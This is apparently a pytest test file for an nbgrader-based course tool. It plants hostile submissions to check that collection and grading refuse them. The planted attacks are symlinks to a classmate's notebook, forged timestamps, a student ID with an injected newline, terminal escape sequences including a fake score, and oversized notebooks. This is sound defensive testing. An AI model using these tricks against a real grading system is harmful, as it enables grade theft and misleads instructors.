        on_roster = [HONEST, "ben", "mallory", "dangle", "ansi", "early", "future", "cells"]
        on_roster += ["longtb", "notdict", "linkstudent"]
        exchange, course, blank, key = _released_class(mp, tmp, on_roster)
        honest_nb = copy.deepcopy(key)
        cell_by_id(honest_nb, "q10-teachback").source = TEACH_BACK

        # 1. the honest classmate submits and is collected
        _submit(tmp / "home-amy", exchange, HONEST, honest_nb)
        cli(course, "collect", QUIZ)

        # 2. mallory's inbound notebook becomes a relative link to amy's collected notebook,
        #    with timestamp.txt far in the future; dangle's holds a dangling link
        home = tmp / "home-shared"
        mallory = _submit(home, exchange, "mallory", blank)
        target = os.path.relpath(course / "submitted" / HONEST / QUIZ / f"{QUIZ}.ipynb", mallory)
        (mallory / f"{QUIZ}.ipynb").chmod(0o644)
        (mallory / f"{QUIZ}.ipynb").unlink()
        (mallory / f"{QUIZ}.ipynb").symlink_to(target)
        (mallory / "timestamp.txt").chmod(0o644)
        (mallory / "timestamp.txt").write_text(FUTURE)
        dangle = _submit(home, exchange, "dangle", blank)
        (dangle / "extra.ipynb").symlink_to(tmp / "no-such-file.ipynb")
        collect_links = _run(course, "collect", QUIZ)

        # 3. mallory swaps the link for a plain file; the routine collect must not forget
        (mallory / f"{QUIZ}.ipynb").unlink()
        nbformat.write(blank, mallory / f"{QUIZ}.ipynb")

        # the rest of the class, each with one attack
        ben = _submit(home, exchange, "ben", with_answers(blank, PARTIAL))
        stamp = ben.name.split("+")[2]
        _forge(ben, f"ben\n+{QUIZ}+{stamp}", key)  # a second "ben" through the exchange
        _forge(ben, f"ansi\x1b[2J\x1b]0;owned\x07+{QUIZ}+{stamp}", key)
        ansi = copy.deepcopy(key)
        cell_by_id(ansi, "q10-teachback").source = "\x1b[2J\x1b[HScore recorded: 17.5/17.5\x07"
        ansi.cells.append(nbformat.v4.new_markdown_cell("x"))
        ansi.cells[-1].metadata["nbgrader"] = {
            "grade_id": "\x1b]0;owned\x07\x1b[31m",
            "grade": False,
        }
        _forge(ben, f"ansi+{QUIZ}+{stamp}", ansi)
        _forge(ben, f"early+{QUIZ}+{stamp}", key, timestamp="2020-01-01 00:00:00.000000 UTC")
        _forge(ben, f"future+{QUIZ}+{FUTURE}", key, timestamp=FUTURE)
        cells = json.loads(nbformat.writes(key))  # compact JSON: 45,000 cells in under 5 MB
        cells["cells"] += [
            {
                "cell_type": "raw",
                "id": f"u{i}",
                "metadata": {"nbgrader": {"grade_id": f"u{i}"}},
                "source": "",
            }
            for i in range(45_000)
        ]
        forged = _forge(ben, f"cells+{QUIZ}+{stamp}")
        (forged / f"{QUIZ}.ipynb").write_text(json.dumps(cells, separators=(",", ":")))
        longtb = copy.deepcopy(key)
        cell_by_id(longtb, "q10-teachback").source = "Compression helps. " * 32_000  # 600 kB
        _forge(ben, f"longtb+{QUIZ}+{stamp}", longtb)
        notdict = copy.deepcopy(key)
        notdict.cells[0].metadata["nbgrader"] = ["not", "a", "dict"]
        _forge(ben, f"notdict+{QUIZ}+{stamp}", notdict)
        _forge(ben, f"stranger+{QUIZ}+{stamp}", key)  # not on the roster
        collect_rest = _run(course, "collect", QUIZ)
        refused_after_swap = course_collect.refused_at_collect(course, QUIZ)
        (course / "submitted" / "linkstudent").symlink_to(course / "submitted" / HONEST)
        # a report left by an older grader, with the 1.9 MB note that broke every reader
        reports = course / "reports"
        (reports / f"{QUIZ}-autograde.csv").write_text(
            "student_id,score,max_score,status,reason,notes\n"
            f"cells,,17.5,needs manual grading,review,{'unknown grade id u1; ' * 95_000}\n"
        )

        autograde = _run(course, "autograde", QUIZ)
        listing = _run(course, "grade", QUIZ)
        feedback = _run(course, "feedback", QUIZ)
        returned = _run(course, "return", QUIZ)
        as_student(HONEST, tmp / "home-amy", exchange, "fetch_feedback", QUIZ)
        export = _run(course, "export", QUIZ)
        analysis = subprocess.run(
            [sys.executable, "-m", "venous_course_tools.instructor.analysis_cli", QUIZ]
            + ["--course-dir", str(course)],
            text=True,
            capture_output=True,
            timeout=300,
        )
        rows = workflow.read_report(workflow.report_paths(course, QUIZ)[0])
        mallory_copied = (course / "submitted" / "mallory").exists()
        students_after_cli = workflow.roster_ids(course)
        with (course / "grades" / f"{QUIZ}-lms.csv").open(newline="", encoding="utf-8") as fh:
            lms = list(csv.DictReader(fh))
        # mallory submits again, honestly: the refusal ends with a newer submission
        _submit(home, exchange, "mallory", with_answers(blank, {"q1": 'q1 = "A"'}))
        resubmitted = _run(course, "collect", QUIZ)
        # and formgrader's route, plain nbgrader autograde, over the whole class
        plain = nbgrader(["autograde", QUIZ, "--force"], cwd=course, ok=False)
        yield {
            "course": course,
            "tmp": tmp,
            "collect_links": collect_links,
            "collect_rest": collect_rest,
            "refused_after_swap": refused_after_swap,
            "autograde": autograde,
            "listing": listing,
            "feedback": feedback,
            "returned": returned,
            "export": export,
            "analysis": analysis,
            "rows": rows,
            "mallory_copied": mallory_copied,
            "students_after_cli": students_after_cli,
            "lms": lms,
            "resubmitted": resubmitted,
            "plain": plain,
        }


def test_a_classmate_s_full_marks_cannot_be_taken(exchange_class):
    """Issue 30's worst break: a link to amy's notebook, a future timestamp, then a swap."""
    course, rows = exchange_class["course"], exchange_class["rows"]
    out = exchange_class["collect_links"]
    assert out.returncode == 0, out.stdout + out.stderr
    assert "mallory's submission in the exchange" in out.stdout
    assert f"{QUIZ}.ipynb is a symbolic link" in out.stdout
    # the swap did not make the next collect forget the refusal
    assert "symbolic link" in exchange_class["refused_after_swap"]["mallory"]
    assert rows["mallory"].status == "failed" and "symbolic link" in rows["mallory"].reason
    assert not exchange_class["mallory_copied"]  # nothing was ever copied for mallory
    assert not (course / "feedback" / "mallory").exists()
    lms = {r["student_id"]: r for r in exchange_class["lms"]}
    assert lms["mallory"]["score"] == "" and lms["mallory"]["status"].startswith("failed")
    assert lms[HONEST]["score"] == f"{FULL_AUTO:g}"
    # a newer honest submission of mallory's is collected, and the refusal is lifted
    again = exchange_class["resubmitted"]
    assert again.returncode == 0 and "1 new" in again.stdout, again.stdout + again.stderr
    assert not course_collect.refused_at_collect(course, QUIZ).get("mallory")


def test_a_dangling_link_never_stops_the_class(exchange_class):
    out = exchange_class["collect_links"]
    assert "Traceback" not in out.stderr and out.returncode == 0
    assert "dangle's submission in the exchange" in out.stdout
    assert "extra.ipynb is a symbolic link" in out.stdout
    row = exchange_class["rows"]["dangle"]
    assert row.status == "failed" and "extra.ipynb is a symbolic link" in row.reason


def test_an_id_with_a_newline_is_refused_whole(exchange_class):
    out = exchange_class["collect_rest"].stdout
    assert f"'ben\\\\x0a+{QUIZ}+" in out and "not collected" in out
    assert [r["student_id"] for r in exchange_class["lms"]].count("ben") == 1
    assert exchange_class["rows"]["ben"].score == f"{PARTIAL_SCORE:g}"
    with (exchange_class["course"] / "grades" / "nbgrader-grades.csv").open() as fh:
        assert [r["student_id"] for r in csv.DictReader(fh)].count("ben") == 1


def test_folders_off_the_roster_are_reported_not_graded(exchange_class):
    assert "stranger is not on the roster" in exchange_class["collect_rest"].stdout
    assert "submitted/stranger: not on the roster, not graded" in exchange_class["autograde"].stdout
    assert "stranger" not in exchange_class["rows"]
    assert "stranger" not in exchange_class["students_after_cli"]  # never added by the course
    assert "stranger" not in {r["student_id"] for r in exchange_class["lms"]}


def test_no_terminal_escape_reaches_the_instructor(exchange_class):
    course = exchange_class["course"]
    printed = [
        exchange_class[k].stdout + exchange_class[k].stderr
        for k in ("collect_rest", "autograde", "listing", "export")
    ]
    written = [p.read_text(encoding="utf-8") for p in (course / "reports").glob(f"{QUIZ}-*")]
    written += [p.read_text(encoding="utf-8") for p in (course / "grades").glob("*.csv")]
    for text in printed + written:
        assert not [e for e in ESCAPES if e in text]
    assert "\\x1b[2J" in exchange_class["listing"].stdout  # shown, as a visible escape
    assert "ansi\\\\x1b[2J" in exchange_class["collect_rest"].stdout
    assert any("\\x1b]0;owned" in n for n in exchange_class["rows"]["ansi"].notes)


def test_a_submission_time_the_course_cannot_vouch_for_is_flagged(exchange_class):
    from nbgrader.api import Gradebook

    course, rows = exchange_class["course"], exchange_class["rows"]
    for student, said in (("early", "timestamp.txt says 2020-01-01"), ("future", "after this")):
        row = rows[student]
        assert row.status == "needs manual grading", row
        assert "submission time unclear" in row.reason and said in row.reason
        assert f"{student}: submission time unclear" in exchange_class["collect_rest"].stdout
    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
        early = gb.find_submission(QUIZ, "early").timestamp
        future = gb.find_submission(QUIZ, "future").timestamp
        honest = gb.find_submission(QUIZ, HONEST).timestamp
    assert early.year == future.year == honest.year != 2020  # the student's date was not used
    assert rows[HONEST].status == "needs manual grading" and rows[HONEST].reason == ""


def test_a_notebook_with_45000_cells_breaks_nothing(exchange_class):
    course, rows = exchange_class["course"], exchange_class["rows"]
    row = rows["cells"]
    assert row.status == "failed" and "45" in row.reason and "cells" in row.reason
    csv_path, md_path = workflow.report_paths(course, QUIZ)
    assert csv_path.stat().st_size < 50_000 and md_path.stat().st_size < 50_000
    assert max(len(n) for r in rows.values() for n in r.notes) <= 400
    for step in ("autograde", "export", "analysis"):
        proc = exchange_class[step]
        assert "Traceback" not in proc.stderr and "field larger" not in proc.stderr, step
    assert exchange_class["export"].returncode == 0
    assert exchange_class["analysis"].returncode in (0, 1)  # 1: too few students, in a sentence


def test_a_long_teach_back_is_cut_for_display_only(exchange_class):
    course = exchange_class["course"]
    shown = cell_by_id(
        read_nb(course / "autograded" / "longtb" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
    ).source
    assert len(shown) < 11_000 and "Cut for display" in shown
    full = cell_by_id(
        read_nb(course / "submitted" / "longtb" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
    ).source
    assert len(full) == len("Compression helps. ") * 32_000
    assert len(exchange_class["listing"].stdout) < 100_000


def test_metadata_that_is_not_a_dictionary_is_a_sentence(exchange_class):
    row = exchange_class["rows"]["notdict"]
    assert any("nbgrader metadata is not a dictionary" in n for n in row.notes), row
    assert "AttributeError" not in row.reason + " ".join(row.notes)


def test_a_student_folder_that_is_a_link_is_refused(exchange_class):
    row = exchange_class["rows"]["linkstudent"]
    assert row.status == "failed" and "symbolic link" in row.reason


def test_plain_nbgrader_autograde_gets_the_same_checks(exchange_class):
    """Formgrader's Autograde button runs this app: links and cell counts are refused too."""
    course, plain = exchange_class["course"], exchange_class["plain"]
    assert plain.returncode != 0  # some submissions failed, and nbgrader says so
    log = plain.stdout + plain.stderr
    assert "more than the" in log and "symbolic link" in log
    assert auto_score(course, HONEST) == FULL_AUTO
    for student in ("cells", "linkstudent"):
        assert not (course / "autograded" / student / QUIZ).exists()


@pytest.fixture(scope="module")
def honest_alone(tmp_path_factory):
    """The same honest student in a class of one: what every hostile class must not change."""
    with pytest.MonkeyPatch.context() as mp:
        tmp = tmp_path_factory.mktemp("honest-alone")
        exchange, course, _blank, key = _released_class(mp, tmp, [HONEST])
        cell_by_id(key, "q10-teachback").source = TEACH_BACK
        _submit(tmp / "home-amy", exchange, HONEST, key)
        for step in ("collect", "autograde", "feedback", "return", "export"):
            cli(course, step, QUIZ)
        as_student(HONEST, tmp / "home-amy", exchange, "fetch_feedback", QUIZ)
        yield {"course": course, "tmp": tmp}


def _feedback_text(home):
    """The feedback page a student fetched, without markup and the submission time."""
    (page,) = (home / QUIZ / "feedback").rglob("*.html")
    text = html.unescape(re.sub(r"<[^>]+>", " ", page.read_text(encoding="utf-8")))
    return re.sub(r"\d{4}-\d\d-\d\d[ T][\d:.]+( UTC)?", "<time>", " ".join(text.split()))


def _lms_row(course, student):
    with (course / "grades" / f"{QUIZ}-lms.csv").open(newline="", encoding="utf-8") as fh:
        return next(r for r in csv.DictReader(fh) if r["student_id"] == student)


def test_an_honest_student_is_untouched_by_hostile_classmates(exchange_class, honest_alone):
    hostile, alone = exchange_class["course"], honest_alone["course"]
    for step in ("feedback", "returned", "export"):
        proc = exchange_class[step]
        assert proc.returncode == 0, (step, proc.stdout + proc.stderr)
    assert grades(hostile, QUIZ, HONEST) == grades(alone, QUIZ, HONEST)
    assert _lms_row(hostile, HONEST) == _lms_row(alone, HONEST)
    hostile_page = _feedback_text(exchange_class["tmp"] / "home-amy")
    assert hostile_page == _feedback_text(honest_alone["tmp"] / "home-amy")
    assert TEACH_BACK in hostile_page and "Rationale" in hostile_page


def test_grading_refuses_an_optimising_python(batch):
    """PYTHONOPTIMIZE once stripped every assert: blank answers went from 0 to 9/17.5."""
    course = batch["course"]
    before = grades(course, QUIZ, "partial")
    env = {**os.environ, "PYTHONOPTIMIZE": "1"}
    proc = _run(course, "autograde", QUIZ, env=env)
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert proc.returncode == 1 and len(lines) == 1, proc.stdout + proc.stderr
    assert "optimising Python" in lines[0] and "unset PYTHONOPTIMIZE" in lines[0]
    plain = subprocess.run(
        [sys.executable, "-m", "nbgrader", "autograde", QUIZ, "--student", "partial", "--force"],
        cwd=course,
        env=env,
        text=True,
        capture_output=True,
        timeout=300,
    )
    assert plain.returncode != 0 and "optimising Python" in plain.stdout + plain.stderr
    assert grades(course, QUIZ, "partial") == before
